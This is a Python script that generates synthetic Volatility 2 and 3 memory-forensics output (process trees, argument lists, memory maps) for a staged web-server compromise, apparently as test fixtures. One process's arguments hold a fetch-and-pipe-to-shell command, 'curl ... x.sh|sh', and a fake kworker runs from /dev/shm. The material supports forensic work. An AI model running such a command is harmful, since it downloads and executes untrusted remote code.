# Renders fixed process tables through Volatility 3's own CLI renderers (volatility3/cli/text_renderer.py).
# Usage: python3 render.py <checkout of volatilityfoundation/volatility3 at a1961401 (2.11.0)> <output folder>
# The *.csv-2.0.1 and linux.psaux.pretty-2.0.1 files are this script's Volatility 3 tables rendered the same way by a
# checkout at the tag v2.0.1 (its CSV renderer was hand-written until v2.4.0: quoted header, strings quoted unescaped;
# its pretty renderer did not expand tabs or indent further lines), each renamed with that suffix.
import sys, io, datetime, contextlib
sys.path.insert(0, sys.argv[1])
OUT = sys.argv[2]
from volatility3.cli import text_renderer
from volatility3.framework import renderers
from volatility3.framework.renderers import format_hints

UTC = datetime.timezone.utc
def t(s): return datetime.datetime(2026, 11, 29, 6, s // 60, s % 60, 114000, tzinfo=UTC)

procs = [  # depth, offset, pid, tid, ppid, comm, uid, start-seconds, args
    (0, 0xffff9e3b40002a00, 1, 1, 0, "systemd", 0, 2, "/usr/lib/systemd/systemd --switched-root --system --deserialize 21"),
    (1, 0xffff9e3b40e5c000, 830, 830, 1, "containerd", 0, 40, "/usr/bin/containerd"),
    (1, 0xffff9e3b41a85400, 3310, 3310, 1, "containerd-shim", 0, 300, "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 4f1c2a -address /run/containerd/containerd.sock"),
    (2, 0xffff9e3b41a80000, 3342, 3342, 3310, "pause", 65535, 301, "/pause"),
    (2, 0xffff9e3b43672c00, 3401, 3401, 3310, "nginx", 0, 310, "nginx: master process nginx -g daemon off;"),
    (3, 0xffff9e3b43675400, 5120, 5120, 3401, "sh", 33, 1500, 'sh -c "curl -s http://198.51.100.7/x.sh|sh", then \\wait'),
    (4, 0xffff9e3b4367a800, 5188, 5188, 5120, "kworker/0:2", 33, 1510, "/dev/shm/kworker/0:2\t-daemon\nsecond line"),
    (0, 0xffff9e3b40004d00, 2, 2, 0, "kthreadd", 0, 2, "[kthreadd]"),
    (1, 0xffff9e3b40009a00, 9, 9, 2, "kworker/0:1H", 0, 3, "[kworker/0:1H]"),
]

def grid(columns, rows):
    def gen():
        yield from rows
    return renderers.TreeGrid(columns, gen())

def render(renderer, g):
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        renderer.render(g)
    return out.getvalue()

renderers_ = {"quick": text_renderer.QuickTextRenderer, "pretty": text_renderer.PrettyTextRenderer,
              "csv": text_renderer.CSVRenderer, "json": text_renderer.JsonRenderer, "jsonl": text_renderer.JsonLinesRenderer}

tables = {
  # linux.pstree.PsTree at a1961401 (2.11.0)
  "linux.pstree": ([("OFFSET (V)", format_hints.Hex), ("PID", int), ("TID", int), ("PPID", int), ("COMM", str)],
                   [(d, [format_hints.Hex(o), p, tid, pp, c]) for d, o, p, tid, pp, c, u, s, a in procs]),
  # linux.pslist.PsList at a1961401 (2.11.0): flat (depth 0)
  "linux.pslist": ([("OFFSET (V)", format_hints.Hex), ("PID", int), ("TID", int), ("PPID", int), ("COMM", str), ("File output", str)],
                   [(0, [format_hints.Hex(o), p, tid, pp, c, "Disabled"]) for d, o, p, tid, pp, c, u, s, a in procs]),
  # linux.pslist.PsList from 2.18 on (UID GID EUID EGID CREATION TIME before File output)
  "linux.pslist-2.18": ([("OFFSET (V)", format_hints.Hex), ("PID", int), ("TID", int), ("PPID", int), ("COMM", str), ("UID", int), ("GID", int), ("EUID", int), ("EGID", int), ("CREATION TIME", datetime.datetime), ("File output", str)],
                   [(0, [format_hints.Hex(o), p, tid, pp, c, u, u, u, u, t(s), "Disabled"]) for d, o, p, tid, pp, c, u, s, a in procs]),
  # linux.psaux.PsAux at a1961401
  "linux.psaux": ([("PID", int), ("PPID", int), ("COMM", str), ("ARGS", str)],
                  [(0, [p, pp, c, a]) for d, o, p, tid, pp, c, u, s, a in procs]),
  # linux.envars.Envars at a1961401: one row per variable, so a process repeats
  "linux.envars": ([("PID", int), ("PPID", int), ("COMM", str), ("KEY", str), ("VALUE", str)],
                   [(0, [5120, 3401, "sh", "PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"]), (0, [5120, 3401, "sh", "HOSTNAME", "nginx-7d9c"])]),
  # linux.psscan.PsScan at a1961401: scanned task structures, exited ones included
  "linux.psscan": ([("OFFSET (P)", format_hints.Hex), ("PID", int), ("TID", int), ("PPID", int), ("COMM", str), ("EXIT_STATE", str)],
                   [(0, [format_hints.Hex(0x1e5dc00), 5190, 5190, 5120, "id", "EXIT_DEAD"]), (0, [format_hints.Hex(0x10d2dc00), 5120, 5120, 3401, "sh", "TASK_RUNNING"])]),
  # linux.bash.Bash at a1961401
  "linux.bash": ([("PID", int), ("Process", str), ("CommandTime", datetime.datetime), ("Command", str)],
                 [(0, [5120, "bash", t(1520), "id"])]),
}
for name, (cols, rows) in tables.items():
    for rname, cls in renderers_.items():
        r = cls()
        text = render(r, grid(cols, rows))
        with open(f"{OUT}/{name}.{rname}", "w") as f:
            f.write(text)

# linux.proc.Maps at a1961401
maps = [(3401, "nginx", 0x55d0c0a00000, 0x55d0c0b2e000, "r-x", 0, 259, 1, 262402, "/usr/sbin/nginx"),
        (5188, "kworker/0:2", 0x400000, 0x6f2000, "r-x", 0, 259, 1, 48213, "/dev/shm/kworker/0:2 (deleted)"),
        (5188, "kworker/0:2", 0x7f3a1c000000, 0x7f3a1c021000, "rwx", 0, 0, 0, 0, "Anonymous Mapping")]
cols = [("PID", int), ("Process", str), ("Start", format_hints.Hex), ("End", format_hints.Hex), ("Flags", str), ("PgOff", format_hints.Hex),
        ("Major", int), ("Minor", int), ("Inode", int), ("File Path", str), ("File output", str)]
for rname, cls in renderers_.items():
    rows = [(0, [p, c, format_hints.Hex(s), format_hints.Hex(e), f, format_hints.Hex(o), ma, mi, i, path, "Disabled"]) for p, c, s, e, f, o, ma, mi, i, path in maps]
    with open(f"{OUT}/linux.proc.Maps.{rname}", "w") as fh:
        fh.write(render(cls(), grid(cols, rows)))

# Volatility 2 --output=json (volatility/renderers/html.py JSONRenderer at 2.6.1): {"columns": [names], "rows": [[values]]},
# json.dumps(..., ensure_ascii=False); columns from each plugin's unified_output at 2.6.1.
import json
def vol2(name, columns, rows):
    with open(f"{OUT}/{name}.vol2.json", "w") as fh:
        fh.write(json.dumps({"columns": columns, "rows": rows}, ensure_ascii=False))
vol2("linux_pslist", ["Offset", "Name", "Pid", "Uid", "Gid", "DTB", "StartTime"],
     [[o, c, p, str(u), str(u), 0x7c3ae000 + p * 0x1000, "2026-11-29 06:%02d:%02d UTC+0000" % (s // 60, s % 60)] for d, o, p, tid, pp, c, u, s, a in procs])
# linux_pstree: recurse_task gives kernel threads (no mm) "[comm]" and Level "." * depth + name; roots get Ppid 0
vol2("linux_pstree", ["Offset", "Name", "Level", "Pid", "Ppid", "Uid", "Gid", "Euid"],
     [[o, ("[%s]" % c) if a.startswith("[") else c, "." * d + (("[%s]" % c) if a.startswith("[") else c), p, pp, u, u, u] for d, o, p, tid, pp, c, u, s, a in procs])
vol2("linux_psaux", ["Arguments", "Pid", "Uid", "Gid"], [[a, p, u, u] for d, o, p, tid, pp, c, u, s, a in procs])
vol2("linux_bash", ["Pid", "Name", "CommandTime", "Command"], [[5120, "bash", "2026-11-29 06:25:20 UTC+0000", "id"]])
vol2("linux_proc_maps", ["Offset", "Pid", "Name", "Start", "End", "Flags", "Pgoff", "Major", "Minor", "Inode", "Path"],
     [[0xffff9e3b43672c00, p, c, s, e, f, o, ma, mi, i, "" if path == "Anonymous Mapping" else path] for p, c, s, e, f, o, ma, mi, i, path in maps])
